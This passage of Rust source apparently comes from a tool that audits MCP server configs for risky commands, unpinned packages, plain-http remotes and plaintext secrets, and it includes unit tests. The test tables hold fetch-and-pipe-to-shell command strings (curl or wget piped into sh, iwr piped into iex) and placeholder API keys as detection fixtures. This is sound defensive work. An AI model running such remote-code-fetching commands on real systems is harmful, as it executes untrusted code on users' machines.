        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'+'));
    parts.len() == 3 && parts.iter().all(numeric) && tail_ok && !v[core_end..].ends_with(['-', '+'])
}

fn python_pin(spec: &str) -> Pin {
    if is_path_or_url(spec) || spec.contains("://") {
        return Pin::Exact;
    }
    let name_of = |s: &str| {
        let end = s
            .find(['[', '=', '<', '>', '~', '!', '@', ' ', ';'])
            .unwrap_or(s.len());
        s[..end].to_owned()
    };
    if let Some(at) = spec.find("==") {
        let version = spec[at..].trim_start_matches('=').trim();
        if version.is_empty() || version.contains(['*', ',', ' ']) {
            return Pin::Loose {
                name: name_of(spec),
                version: spec[at..].to_owned(),
            };
        }
        return Pin::Exact;
    }
    if spec.contains(['<', '>', '~', '!']) {
        let start = spec.find(['<', '>', '~', '!']).unwrap_or(0);
        return Pin::Loose {
            name: name_of(spec),
            version: spec[start..].to_owned(),
        };
    }
    if let Some(at) = spec.find('@') {
        let version = spec[at + 1..].trim();
        return if version.eq_ignore_ascii_case("latest") {
            Pin::Latest {
                name: name_of(spec),
            }
        } else if version.is_empty() {
            Pin::Missing {
                name: name_of(spec),
            }
        } else {
            Pin::Exact
        };
    }
    Pin::Missing {
        name: name_of(spec),
    }
}

// ---------------------------------------------------------------------------
// Rule: where the command lives

fn command_location(
    command: &str,
    world_writable: &dyn Fn(&Path) -> bool,
    scrub: &Scrubber,
) -> Option<Finding> {
    let shown = scrub.apply(command);
    let normal = command.to_ascii_lowercase().replace('\\', "/");
    let temp_prefix = [
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "/private/tmp/",
        "/private/var/tmp/",
    ]
    .iter()
    .any(|p| normal.starts_with(p));
    let temp_marker = [
        "%temp%",
        "%tmp%",
        "$tmpdir",
        "${tmpdir}",
        "$env:temp",
        "/appdata/local/temp/",
        "/windows/temp/",
    ]
    .iter()
    .any(|m| normal.contains(m));
    let writable_fix = "Install the executable into a directory only you (or root) can write, such as ~/.local/bin or /usr/local/bin, and point `command` there.".to_owned();
    if temp_prefix || temp_marker {
        return Some(finding(
            Severity::High,
            "writable-path",
            format!(
                "the command `{shown}` lives in a temporary directory other users or programs can write to"
            ),
            writable_fix,
        ));
    }
    let absolute = is_absolute(command);
    if absolute
        && let Some(parent) = Path::new(command).parent()
        && !parent.as_os_str().is_empty()
        && world_writable(parent)
    {
        return Some(finding(
            Severity::High,
            "writable-path",
            format!(
                "the command `{shown}` is in {}, which any user can write to",
                parent.display()
            ),
            writable_fix,
        ));
    }
    let has_dir = command.contains(['/', '\\']);
    let expanded = command.starts_with(['~', '$', '%']);
    if has_dir && !absolute && !expanded {
        return Some(finding(
            Severity::Low,
            "relative-command",
            format!(
                "the command `{shown}` is a relative path: it depends on the directory the client starts servers in"
            ),
            "Use an absolute path; clients do not start servers from your project directory."
                .into(),
        ));
    }
    None
}

fn is_absolute(path: &str) -> bool {
    let b = path.as_bytes();
    path.starts_with('/')
        || path.starts_with("\\\\")
        || (b.len() > 2
            && b[0].is_ascii_alphabetic()
            && b[1] == b':'
            && matches!(b[2], b'\\' | b'/'))
}

// ---------------------------------------------------------------------------
// Rule: plain-http remotes

fn insecure_remote(url: &str, what: &str, scrub: &Scrubber) -> Option<Finding> {
    let lower = url.trim().to_ascii_lowercase();
    let rest = lower
        .strip_prefix("http://")
        .or_else(|| lower.strip_prefix("ws://"))?;
    let host = url_host(rest);
    if is_loopback(&host) {
        return None;
    }
    Some(finding(
        Severity::High,
        "insecure-remote",
        format!(
            "{what} {} uses plain http to {host}: requests, replies and credentials travel unencrypted and can be altered",
            quote(&scrub.apply(url), 100)
        ),
        "Use https://; plain http is acceptable only to loopback (localhost, 127.0.0.1, [::1])."
            .into(),
    ))
}

/// A stdio bridge (`mcp-remote`) pointed at a plain-http URL is a plain-http remote.
fn mcp_remote_over_http(args: &[String], scrub: &Scrubber) -> Vec<Finding> {
    if !args.iter().any(|a| a.contains("mcp-remote")) {
        return Vec::new();
    }
    args.iter()
        .filter_map(|a| insecure_remote(a, "the mcp-remote URL", scrub))
        .collect()
}

/// The host of `rest` (a URL after its `scheme://`), lower-cased, no port.
fn url_host(rest: &str) -> String {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    if let Some(v6) = host_port.strip_prefix('[') {
        return v6.split(']').next().unwrap_or("").to_owned();
    }
    host_port.split(':').next().unwrap_or("").to_owned()
}

fn is_loopback(host: &str) -> bool {
    host == "localhost"
        || host.ends_with(".localhost")
        || host == "::1"
        || host
            .parse::<std::net::Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback())
}

// ---------------------------------------------------------------------------
// Rule: secrets stored in the config

/// A secret found in a config value: what kind, and the value itself (kept
/// only to scrub it from output, never printed).
#[derive(Debug, PartialEq)]
struct SecretHit {
    what: String,
    value: String,
}

#[derive(Clone, Copy)]
enum MapKind {
    Env,
    Headers,
}

fn secrets_in_map(
    map: &Map<String, Value>,
    kind: MapKind,
    findings: &mut Vec<Finding>,
    secrets: &mut Vec<String>,
) {
    for (name, value) in map {
        let Some(value) = value.as_str() else {
            continue;
        };
        let mut hits = token_shapes(value);
        let by_name = match kind {
            MapKind::Env => sensitive_name(name),
            MapKind::Headers => sensitive_name(name) || name.eq_ignore_ascii_case("authorization"),
        };
        if hits.is_empty() && by_name {
            let value = strip_auth_scheme(value.trim());
            if is_literal_secret(value) {
                hits.push(SecretHit {
                    what: "a literal secret".into(),
                    value: value.to_owned(),
                });
            }
        }
        for hit in hits {
            let (rule, message, fix) = match kind {
                MapKind::Env => (
                    "secret-in-env",
                    format!("env {name} holds {} ({}) in plain text", hit.what, redact(&hit.value)),
                    format!("Remove the value from the file and rotate it; reference it as `${{{name}}}` if your client expands variables, or start the server through a wrapper that reads it from the OS keychain or a secret manager."),
                ),
                MapKind::Headers => (
                    "secret-in-headers",
                    format!("header {name} holds {} ({}) in plain text", hit.what, redact(&hit.value)),
                    "Remove the value from the file and rotate it; reference an environment variable (`Bearer ${TOKEN}`) if your client expands variables.".into(),
                ),
            };
            findings.push(finding(Severity::High, rule, message, fix));
            secrets.push(hit.value);
        }
    }
}

/// Secrets on the command line (`line[0]` is the command itself).
fn secrets_in_args(line: &[String], findings: &mut Vec<Finding>, secrets: &mut Vec<String>) {
    let mut i = 0;
    while let Some(arg) = line.get(i) {
        let mut hits = token_shapes(arg);
        let mut consumed_next = false;
        if arg.contains("://") {
            hits.extend(secrets_in_url(arg));
        } else if let Some((key, value)) = arg.split_once('=')
            && is_option_name(key)
            && sensitive_name(key)
        {
            // `--api-key=VALUE`, `API_KEY=VALUE` (after `env`)
            if is_literal_secret(value) {
                hits.push(SecretHit {
                    what: format!("a literal value for {}", key.trim_start_matches('-')),
                    value: value.to_owned(),
                });
            }
        } else if let Some((key, value)) = arg.split_once(':')
            && is_option_name(key)
            && (sensitive_name(key) || key.eq_ignore_ascii_case("authorization"))
        {
            // `X-API-Key: VALUE`, `Authorization: Token VALUE`
            let value = strip_auth_scheme(value.trim());
            if is_literal_secret(value) {
                hits.push(SecretHit {
                    what: format!("a literal {key} header"),
                    value: value.to_owned(),
                });
            }
        } else if arg.starts_with('-')
            && is_option_name(arg)
            && sensitive_name(arg)
            && let Some(next) = line.get(i + 1)
            && !next.starts_with('-')
        {
            // `--token VALUE`
            if is_literal_secret(next) && token_shapes(next).is_empty() {
                hits.push(SecretHit {
                    what: format!("a literal value for {arg}"),
                    value: next.clone(),
                });
                consumed_next = true;
            }
        }
        for hit in hits {
            if secrets.contains(&hit.value) {
                continue;
            }
            let place = if i == 0 {
                "the command".to_owned()
            } else {
                format!("argument {i}")
            };
            findings.push(finding(
                Severity::High,
                "secret-in-args",
                format!("{place} holds {} ({})", hit.what, redact(&hit.value)),
                "Pass it through `env` instead (command lines are visible to every local user in the process list), keep the value itself out of the file, and rotate it.".into(),
            ));
            secrets.push(hit.value);
        }
        i += if consumed_next { 2 } else { 1 };
    }
}

/// Credentials in a URL: `user:password@` or sensitive query parameters.
fn secrets_in_url(url: &str) -> Vec<SecretHit> {
    let mut hits = token_shapes(url);
    let Some((_, rest)) = url.split_once("://") else {
        return hits;
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    if let Some((userinfo, _)) = authority.rsplit_once('@')
        && let Some((_, password)) = userinfo.split_once(':')
        && is_literal_secret(password)
    {
        hits.push(SecretHit {
            what: "a password".into(),
            value: password.to_owned(),
        });
    }
    if let Some((_, query)) = rest.split_once('?') {
        let query = query.split('#').next().unwrap_or("");
        for pair in query.split('&') {
            if let Some((key, value)) = pair.split_once('=')
                && sensitive_name(key)
                && is_literal_secret(value)
            {
                hits.push(SecretHit {
                    what: format!("a literal `{key}` query parameter"),
                    value: value.to_owned(),
                });
            }
        }
    }
    let mut unique: Vec<SecretHit> = Vec::new();
    for hit in hits {
        if !unique.iter().any(|h| h.value == hit.value) {
            unique.push(hit);
        }
    }
    unique
}

/// An environment variable, option, header or parameter name that usually
/// holds a credential (`API_KEY`, `--auth-token`, `X-Api-Key`), but not one that
/// names where a credential is (`TOKEN_FILE`, `KEY_PATH`) or counts tokens.
fn sensitive_name(name: &str) -> bool {
    const WORDS: &str = "key token secret password passwd credential auth";
    const NOT_LAST: &str = "file path dir url uri host port id endpoint mode type env var name enabled \
        region method provider header count limit";
    let words: Vec<String> = name
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_ascii_lowercase)
        .collect();
    let Some(last) = words.last() else {
        return false;
    };
    if listed(NOT_LAST, last)
        || words
            .iter()
            .any(|w| matches!(w.as_str(), "tokens" | "max" | "min"))
    {
        return false;
    }
    let joined = words.concat();
    WORDS.split_whitespace().any(|w| joined.contains(w))
}

/// A `--flag`, `NAME` or `Header-Name` (no spaces, slashes or quotes).
fn is_option_name(key: &str) -> bool {
    !key.is_empty()
        && key.len() <= 64
        && key
            .trim_start_matches('-')
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
}

fn strip_auth_scheme(value: &str) -> &str {
    for scheme in ["Bearer ", "Basic ", "Token ", "Bot "] {
        if value.len() > scheme.len() && value[..scheme.len()].eq_ignore_ascii_case(scheme) {
            return value[scheme.len()..].trim_start();
        }
    }
    value
}

/// A non-empty literal that is not a reference (`${VAR}`, `$VAR`, `%VAR%`,
/// `op://...`), a path, a boolean or a small number.
fn is_literal_secret(value: &str) -> bool {
    let v = value.trim();
    if v.is_empty() || is_reference(v) {
        return false;
    }
    let lower = v.to_ascii_lowercase();
    let plain_word = [
        "true", "false", "yes", "no", "on", "off", "none", "null", "required", "optional",
    ];
    if plain_word.contains(&lower.as_str()) {
        return false;
    }
    if v.len() <= 6 && v.bytes().all(|b| b.is_ascii_digit()) {
        return false;
    }
    !(v.starts_with(['/', '~']) || v.starts_with("./") || v.starts_with("../") || is_absolute(v))
}

fn is_reference(v: &str) -> bool {
    let lower = v.to_ascii_lowercase();
    v.contains("${")
        || lower.starts_with("$env:")
        || lower.starts_with("op://")
        || (v.len() > 1
            && v.starts_with('$')
            && v[1..]
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        || (v.len() > 2 && v.starts_with('%') && v.ends_with('%'))
        || (v.starts_with("{{") && v.ends_with("}}"))
}

/// Well-known credential shapes anywhere in `text`.
fn token_shapes(text: &str) -> Vec<SecretHit> {
    // (prefix, what, allowed tail bytes, minimum tail, exact tail length?)
    type Tail = fn(u8) -> bool;
    let base62: Tail = |b| b.is_ascii_alphanumeric();
    let key_chars: Tail = |b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let pat_chars: Tail = |b| b.is_ascii_alphanumeric() || b == b'_';
    let slack_chars: Tail = |b| b.is_ascii_alphanumeric() || b == b'-';
    let aws_chars: Tail = |b| b.is_ascii_uppercase() || b.is_ascii_digit();
    let shapes: &[(&str, &str, Tail, usize, bool)] = &[
        ("sk-ant-", "an Anthropic API key", key_chars, 20, false),
        ("sk-", "an API key (sk-...)", key_chars, 20, false),
        ("github_pat_", "a GitHub token", pat_chars, 22, false),
        ("ghp_", "a GitHub token", base62, 30, false),
        ("gho_", "a GitHub token", base62, 30, false),
        ("ghu_", "a GitHub token", base62, 30, false),
        ("ghs_", "a GitHub token", base62, 30, false),
        ("ghr_", "a GitHub token", base62, 30, false),
        ("glpat-", "a GitLab token", key_chars, 20, false),
        ("xoxb-", "a Slack token", slack_chars, 10, false),
        ("xoxp-", "a Slack token", slack_chars, 10, false),
        ("xoxa-", "a Slack token", slack_chars, 10, false),
        ("xoxs-", "a Slack token", slack_chars, 10, false),
        ("AKIA", "an AWS access key id", aws_chars, 16, true),
        ("ASIA", "an AWS access key id", aws_chars, 16, true),
        ("AIza", "a Google API key", key_chars, 30, false),
    ];
    let bytes = text.as_bytes();
    let mut hits: Vec<SecretHit> = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let at_boundary = i == 0 || !bytes[i - 1].is_ascii_alphanumeric();
        let mut matched = None;
        if at_boundary {
            for (prefix, what, tail, min, exact) in shapes {
                if !bytes[i..].starts_with(prefix.as_bytes()) {
                    continue;
                }
                let start = i + prefix.len();
                let len = bytes[start..].iter().take_while(|b| tail(**b)).count();
                let tail_bytes = &bytes[start..start + len];
                let ok = if *exact {
                    len == *min
                        && bytes
                            .get(start + len)
                            .is_none_or(|b| !b.is_ascii_alphanumeric())
                } else {
                    // `sk-` also starts ordinary names; real keys contain digits.
                    len >= *min && (*prefix != "sk-" || tail_bytes.iter().any(u8::is_ascii_digit))
                };
                if ok {
                    matched = Some((what.to_string(), i, start + len));
                    break;
                }
            }
            if matched.is_none()
                && bytes.len() >= i + 7
                && bytes[i..i + 7].eq_ignore_ascii_case(b"bearer ")
            {
                let start = i + 7 + bytes[i + 7..].iter().take_while(|b| **b == b' ').count();
                let len = bytes[start..]
                    .iter()
                    .take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b'"' | b'\''))
                    .count();
                let token = &text[start..start + len];
                if len >= 16 && !is_reference(token) && !token.starts_with('<') {
                    matched = Some(("a bearer token".to_owned(), start, start + len));
                }
            }
        }
        if let Some((what, start, end)) = matched {
            let value = text[start..end].to_owned();
            if !hits.iter().any(|h| h.value == value) {
                hits.push(SecretHit { what, value });
            }
            i = end.max(i + 1);
        } else {
            i += 1;
        }
    }
    hits
}

/// The first four characters and an ellipsis; nothing of a short secret.
fn redact(secret: &str) -> String {
    if secret.chars().count() >= 8 {
        let head: String = secret.chars().take(4).collect();
        format!("{head}…")
    } else {
        "…".to_owned()
    }
}

/// Replaces every known secret in a text with its redacted form.
struct Scrubber {
    secrets: Vec<String>,
}

impl Scrubber {
    fn new(mut secrets: Vec<String>) -> Self {
        secrets.retain(|s| !s.is_empty());
        secrets.sort_by(|a, b| b.len().cmp(&a.len()).then_with(|| a.cmp(b)));
        secrets.dedup();
        Scrubber { secrets }
    }

    fn apply(&self, text: &str) -> String {
        let mut out = text.to_owned();
        for secret in &self.secrets {
            if out.contains(secret.as_str()) {
                out = out.replace(secret.as_str(), &redact(secret));
            }
        }
        out
    }
}

/// `text` in backquotes, cut to `max` characters.
fn quote(text: &str, max: usize) -> String {
    let text = text.replace('\n', " ");
    if text.chars().count() > max {
        let head: String = text.chars().take(max).collect();
        format!("`{head}…`")
    } else {
        format!("`{text}`")
    }
}

// ---------------------------------------------------------------------------
// JSONC

/// Blanks `//` and `/* */` comments and trailing commas, keeping every other
/// byte where it was so parse errors point into the original text.
fn strip_jsonc(text: &str) -> String {
    let src = text.as_bytes();
    let mut out = src.to_vec();
    let mut in_string = false;
    let mut i = 0;
    while i < src.len() {
        let c = src[i];
        if in_string {
            match c {
                b'\\' => i += 1,
                b'"' => in_string = false,
                _ => {}
            }
            i += 1;
            continue;
        }
        match (c, src.get(i + 1)) {
            (b'"', _) => in_string = true,
            (b'/', Some(b'/')) => {
                while i < src.len() && src[i] != b'\n' {
                    out[i] = b' ';
                    i += 1;
                }
                continue;
            }
            (b'/', Some(b'*')) => {
                let end = src[i + 2..]
                    .windows(2)
                    .position(|w| w == b"*/")
                    .map_or(src.len(), |p| i + 2 + p + 2);
                for byte in &mut out[i..end] {
                    if *byte != b'\n' {
                        *byte = b' ';
                    }
                }
                i = end;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    // Trailing commas, on the comment-free text.
    let mut in_string = false;
    let mut i = 0;
    while i < out.len() {
        let c = out[i];
        if in_string {
            match c {
                b'\\' => i += 1,
                b'"' => in_string = false,
                _ => {}
            }
        } else if c == b'"' {
            in_string = true;
        } else if c == b',' {
            let next = out[i + 1..].iter().find(|b| !b.is_ascii_whitespace());
            if matches!(next, Some(b'}' | b']')) {
                out[i] = b' ';
            }
        }
        i += 1;
    }
    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn never_writable(_: &Path) -> bool {
        false
    }

    /// Rule ids reported for one stdio entry.
    fn rules(command: &str, args: &[&str]) -> Vec<&'static str> {
        rules_for(json!({ "command": command, "args": args }))
    }

    fn rules_for(entry: Value) -> Vec<&'static str> {
        findings_for(entry).iter().map(|f| f.rule).collect()
    }

    fn findings_for(entry: Value) -> Vec<Finding> {
        let report =
            audit(&json!({ "mcpServers": { "s": entry } }), &never_writable).expect("object");
        report.findings().cloned().collect()
    }

    /// Checks a table of (command, args, expected rules).
    fn check(table: &[(&str, &[&str], &[&str])]) {
        for (command, args, expected) in table {
            assert_eq!(&rules(command, args), expected, "{command} {args:?}");
        }
    }

    #[test]
    fn inline_code_in_shells_and_interpreters() {
        let inline: &[&str] = &["inline-code"];
        let clean: &[&str] = &[];
        check(&[
            ("sh", &["-c", "exec server"], inline),
            ("/bin/bash", &["-lc", "exec server"], inline),
            ("bash", &["-o", "pipefail", "-ec", "exec server"], inline),
            ("zsh", &["-c", "x"], inline),
            ("dash", &["-c", "x"], inline),
            ("fish", &["--command", "x"], inline),
            (
                "C:\\Windows\\System32\\cmd.exe",
                &["/c", "server.exe"],
                inline,
            ),
            ("cmd", &["/d", "/s", "/C", "server.exe"], inline),
            ("python", &["-c", "print(1)"], inline),
            ("python3", &["-Ic", "print(1)"], inline),
            ("python3.12", &["-u", "-c", "print(1)"], inline),
            ("node", &["-e", "require('x')"], inline),
            ("node", &["--eval=require('x')"], inline),
            ("node", &["-p", "1"], inline),
            ("node.exe", &["-r", "dotenv/config", "--eval", "x"], inline),
            ("perl", &["-e", "print 1"], inline),
            ("perl", &["-lne", "print"], inline),
            ("ruby", &["-e", "puts 1"], inline),
            ("deno", &["eval", "console.log(1)"], inline),
            (
                "powershell",
                &["-NoProfile", "-Command", "Start-Server"],
                inline,
            ),
            (
                "powershell.exe",
                &["-ExecutionPolicy", "Bypass", "-c", "x"],
                inline,
            ),
            ("pwsh", &["-EncodedCommand", "ZQBjAGgAbwA="], inline),
            ("pwsh", &["-ec", "ZQBjAGgAbwA="], inline),
            ("powershell", &["Start-Server"], inline),
            ("npx", &["-c", "server --stdio"], inline),
            // Scripts, modules and plain flags are not inline code.
            ("bash", &["script.sh"], clean),
            ("/bin/bash", &["/opt/mcp/run.sh", "-c", "config"], clean),
            ("bash", &["--login", "/opt/mcp/run.sh"], clean),
            ("sh", &[], clean),
            ("cmd", &["server.exe"], clean),
            ("python3", &["-m", "example_server"], clean),
            ("python", &["-u", "/opt/server.py", "-c", "cfg"], clean),
            ("node", &["/opt/server/index.js", "-e", "x"], clean),
            (
                "node",
                &["--max-old-space-size=4096", "/opt/server.js"],
                clean,
            ),
            ("perl", &["-I", "lib", "/opt/server.pl"], clean),
            ("ruby", &["-rjson", "/opt/server.rb"], clean),
            (
                "deno",
                &["run", "--allow-net", "jsr:@scope/server@1.0.0"],
                clean,
            ),
            (
                "pwsh",
                &["-NoProfile", "-File", "C:\\mcp\\server.ps1"],
                clean,
            ),
            ("pwsh", &["C:\\mcp\\server.ps1"], clean),
            (
                "powershell",
                &["-ExecutionPolicy", "Bypass", "-File", "C:\\mcp\\server.ps1"],
                clean,
            ),
        ]);
    }

    #[test]
    fn inline_code_is_found_behind_env_and_runs_inner_checks() {
        assert_eq!(
            rules("/usr/bin/env", &["FOO=1", "bash", "-c", "x"]),
            ["inline-code"]
        );
        assert_eq!(
            rules("cmd", &["/c", "npx", "-y", "some-server"]),
            ["inline-code", "unpinned-package"]
        );
        assert_eq!(
            rules("sh", &["-c", "npx -y some-server"]),
            ["inline-code", "unpinned-package"]
        );
        assert_eq!(
            rules("cmd", &["/c", "npx", "-y", "some-server@1.0.0"]),
            ["inline-code"]
        );
    }

    #[test]
    fn pipes_into_shells() {
        let piped: &[&str] = &["pipe-to-shell"];
        let clean: &[&str] = &[];
        check(&[
            ("/opt/run", &["curl -fsSL https://x.test/i.sh | sh"], piped),
            ("/opt/run", &["wget -O- https://x.test/i.sh|bash"], piped),
            (
                "/opt/run",
                &["curl https://x.test | sudo -E bash -s"],
                piped,
            ),
            ("/opt/run", &["curl https://x.test | python3 -"], piped),
            ("/opt/run", &["iwr https://x.test/i.ps1 | iex"], piped),
            (
                "/opt/run",
                &["Invoke-Expression (iwr https://x.test)"],
                piped,
            ),
            ("/opt/run", &["bash <(curl -s https://x.test)"], piped),
            (
                "/opt/run",
                &["--filter", "a|b", "--x", "true || false"],
                clean,
            ),
            ("/opt/run", &["--index", "/var/lib/iex-data"], clean),
        ]);
        assert_eq!(
            rules("bash", &["-c", "curl -s https://x.test | bash"]),
            ["inline-code", "pipe-to-shell"]
        );
    }

    #[test]
    fn unpinned_package_runners() {
        let unpinned: &[&str] = &["unpinned-package"];
        let clean: &[&str] = &[];
        check(&[
            ("npx", &["-y", "pkg"], unpinned),
            ("npx", &["pkg"], unpinned),
            ("npx", &["--yes", "pkg@latest"], unpinned),
            ("npx", &["-y", "pkg@^1.2.3"], unpinned),
            ("npx", &["-y", "pkg@1"], unpinned),
            ("npx", &["-y", "pkg@next"], unpinned),
            ("npx", &["-y", "@scope/pkg"], unpinned),
            ("npx", &["-y", "@scope/pkg@latest"], unpinned),
            ("npx", &["-y", "github:owner/repo"], unpinned),
            ("npx.cmd", &["-y", "pkg"], unpinned),
            ("npx", &["--package", "pkg", "pkg-bin"], unpinned),
            ("npx", &["-p=x"], clean), // `-p=x` is not how npx spells it; first operand missing
            ("bunx", &["pkg"], unpinned),
            ("pnpm", &["dlx", "pkg"], unpinned),
            ("yarn", &["dlx", "-q", "pkg"], unpinned),
            ("npm", &["exec", "--yes", "--", "pkg"], unpinned),
            ("uvx", &["mcp-server-fetch"], unpinned),
            ("uvx", &["mcp-server-fetch@latest"], unpinned),
            ("uvx", &["mcp-server-fetch>=1.0"], unpinned),
            ("uvx", &["--from", "pkg", "cmd"], unpinned),
            ("uv", &["tool", "run", "pkg"], unpinned),
            ("pipx", &["run", "pkg"], unpinned),
            ("pipx", &["run", "--spec", "pkg>=2", "cmd"], unpinned),
            // Pinned, local or not a runner at all.
            ("npx", &["-y", "pkg@1.2.3"], clean),
            ("npx", &["-y", "pkg@v1.2.3-beta.1"], clean),
            ("npx", &["-y", "@scope/pkg@1.2.3", "--flag", "value"], clean),
            ("npx", &["-y", "--package=pkg@1.2.3", "pkg-bin"], clean),
            ("npx", &["-y", "./local-server"], clean),
            ("npx", &["-y", "github:owner/repo#0123abc"], clean),
            ("bunx", &["pkg@1.0.0"], clean),
            ("pnpm", &["dlx", "pkg@1.0.0"], clean),
            ("pnpm", &["exec", "server"], clean),
            ("npm", &["run", "start"], clean),
            ("uvx", &["mcp-server-fetch==2025.4.7"], clean),
            ("uvx", &["mcp-server-fetch@2025.4.7"], clean),
            (
                "uvx",
                &["--python", "3.12", "--from", "pkg[extra]==1.0", "cmd"],
                clean,
            ),
            (
                "uvx",
                &["--from", "git+https://github.com/o/r@v1", "cmd"],
                clean,
            ),
            ("pipx", &["run", "--spec", "pkg==1.0", "cmd"], clean),
            ("pipx", &["install", "pkg"], clean),
            ("uv", &["run", "server.py"], clean),
        ]);
    }

    #[test]
    fn unpinned_package_message_names_the_package_and_a_fix() {
        let findings =
            findings_for(json!({ "command": "npx", "args": ["-y", "@scope/pkg@latest"] }));
        let [f] = findings.as_slice() else {
            panic!("one finding expected: {findings:?}");
        };
        assert_eq!(f.severity, Severity::Medium);
        assert!(f.message.contains("@scope/pkg@latest"), "{}", f.message);
        assert!(f.fix.contains("@scope/pkg@X.Y.Z"), "{}", f.fix);
        // Running whatever the registry serves today is what guard confines.
        assert!(
            f.suggestion.is_some(),
            "unpinned packages get the guarded form"
        );
        // A leaked secret is not fixed by confinement.
        let secret = findings_for(json!({
            "command": "/usr/bin/server",
            "env": { "API_TOKEN": "sk-abcdefghijklmnopqrstuvwx" },
        }));
        assert_eq!(secret[0].rule, "secret-in-env");
        assert!(secret[0].suggestion.is_none(), "{secret:?}");
    }

    #[test]
    fn command_locations() {
        check(&[
            ("/tmp/server", &[], &["writable-path"]),
            ("/var/tmp/x/server", &[], &["writable-path"]),
            ("/dev/shm/server", &[], &["writable-path"]),
            ("%TEMP%\\server.exe", &[], &["writable-path"]),
            (
                "C:\\Users\\me\\AppData\\Local\\Temp\\server.exe",
                &[],
                &["writable-path"],
            ),
            ("./server", &[], &["relative-command"]),
            ("bin/server", &[], &["relative-command"]),
            ("..\\server.exe", &[], &["relative-command"]),
            ("/usr/local/bin/server", &[], &[]),
            ("C:\\Program Files\\Server\\server.exe", &[], &[]),
            ("~/bin/server", &[], &[]),
            ("server", &[], &[]),
            // A temp dir as an argument (a filesystem root, say) is fine.
            ("/usr/local/bin/fs-server", &["/tmp"], &[]),
        ]);
    }

    #[test]
    fn world_writable_directories_are_probed() {
        let config = json!({ "mcpServers": {
            "a": { "command": "/srv/shared/server" },
            "b": { "command": "/usr/bin/server" },
            "c": { "command": "server" },
        }});
        let probed = std::cell::RefCell::new(Vec::new());
        let probe = |dir: &Path| {
            probed.borrow_mut().push(dir.to_path_buf());
            dir == Path::new("/srv/shared")
        };
        let report = audit(&config, &probe).expect("object");
        let rules: Vec<_> = report
            .findings()
            .map(|f| (f.server.as_str(), f.rule))
            .collect();
        assert_eq!(rules, [("a", "writable-path")]);
        assert_eq!(
            *probed.borrow(),
            [PathBuf::from("/srv/shared"), PathBuf::from("/usr/bin")]
        );
    }

    #[test]
    fn secrets_in_env() {
        let cases: &[(Value, &[&str])] = &[
            (json!({ "API_KEY": "abcd1234efgh5678" }), &["secret-in-env"]),
            (
                json!({ "GITHUB_TOKEN": "ghp_EXAMPLEexampleEXAMPLEexampleEXAMPLE0" }),
                &["secret-in-env"],
            ),
            (json!({ "DB_PASSWORD": "hunter2" }), &["secret-in-env"]),
            (
                json!({ "Auth_Header": "Bearer abcdefgh12345678" }),
                &["secret-in-env"],
            ),
            // A token shape is a secret whatever the variable is called.
            (
                json!({ "OPTIONS": "--key=AKIAIOSFODNN7EXAMPLE" }),
                &["secret-in-env"],
            ),
            (json!({ "API_KEY": "${API_KEY}" }), &[]),
            (json!({ "API_KEY": "$API_KEY" }), &[]),
            (json!({ "API_KEY": "%API_KEY%" }), &[]),
            (json!({ "API_KEY": "${env:API_KEY}" }), &[]),
            (json!({ "API_KEY": "op://vault/item/key" }), &[]),
            (json!({ "API_KEY": "" }), &[]),
            (
                json!({ "GOOGLE_APPLICATION_CREDENTIALS": "/home/me/sa.json" }),
                &[],
            ),
            (json!({ "TOKEN_FILE": "secret.txt" }), &[]),
            (json!({ "AUTH_ENABLED": "true" }), &[]),
            (json!({ "MAX_TOKENS": "4096" }), &[]),
            (json!({ "LOG_LEVEL": "debug" }), &[]),
        ];
        for (env, expected) in cases {
            let got = rules_for(json!({ "command": "/usr/bin/server", "env": env }));
            assert_eq!(&got, expected, "{env}");
        }
    }

    #[test]
    fn secrets_in_args() {
        let secret: &[&str] = &["secret-in-args"];
        let clean: &[&str] = &[];
        check(&[
            ("/opt/s", &["--api-key=abcd1234efgh5678"], secret),
            ("/opt/s", &["--token", "abcd1234efgh5678"], secret),
            ("/opt/s", &["--client-secret", "abcd1234efgh5678"], secret),
            (
                "/opt/s",
                &["sk-ant-api03-EXAMPLEexampleEXAMPLEexample"],
                secret,
            ),
            (
                "/opt/s",
                &["--key", "sk-proj-EXAMPLE0example1EXAMPLE2"],
                secret,
            ),
            (
                "/opt/s",
                &["github_pat_EXAMPLE0example1EXAMPLE2example"],
                secret,
            ),
            ("/opt/s", &["xoxb-1234567890-EXAMPLE"], secret),
            ("/opt/s", &["AKIAIOSFODNN7EXAMPLE"], secret),
            ("/opt/s", &["AIzaSyEXAMPLEexampleEXAMPLEexample012"], secret),
            (
                "/opt/s",
                &["--header", "Authorization: Bearer abcdefgh12345678"],
                secret,
            ),
            (
                "/opt/s",
                &["--header", "X-API-Key: abcd1234efgh5678"],
                secret,
            ),
            ("env", &["API_KEY=abcd1234efgh5678", "/opt/s"], secret),
            (
                "/opt/s",
                &["https://user:p4ssw0rd-example@api.example.com/mcp"],
                secret,
            ),
            (
                "/opt/s",
                &["https://api.example.com/mcp?api_key=abcd1234efgh5678"],
                secret,
            ),
            ("/opt/s", &["--api-key=${API_KEY}"], clean),
            ("/opt/s", &["--token", "$TOKEN"], clean),
            (
                "/opt/s",
                &["--header", "Authorization: Bearer ${TOKEN}"],
                clean,
            ),
            (
                "/opt/s",
                &["--header", "Authorization:${AUTH_HEADER}"],
                clean,
            ),
            ("/opt/s", &["--token-file", "/run/secrets/token"], clean),
            ("/opt/s", &["--max-tokens", "1000"], clean),
            ("/opt/s", &["--task-runner-for-everything-and-more"], clean),
            ("/opt/s", &["--model", "sk-learn"], clean),
            ("/opt/s", &["https://api.example.com/mcp?page=2"], clean),
            (
                "/opt/s",
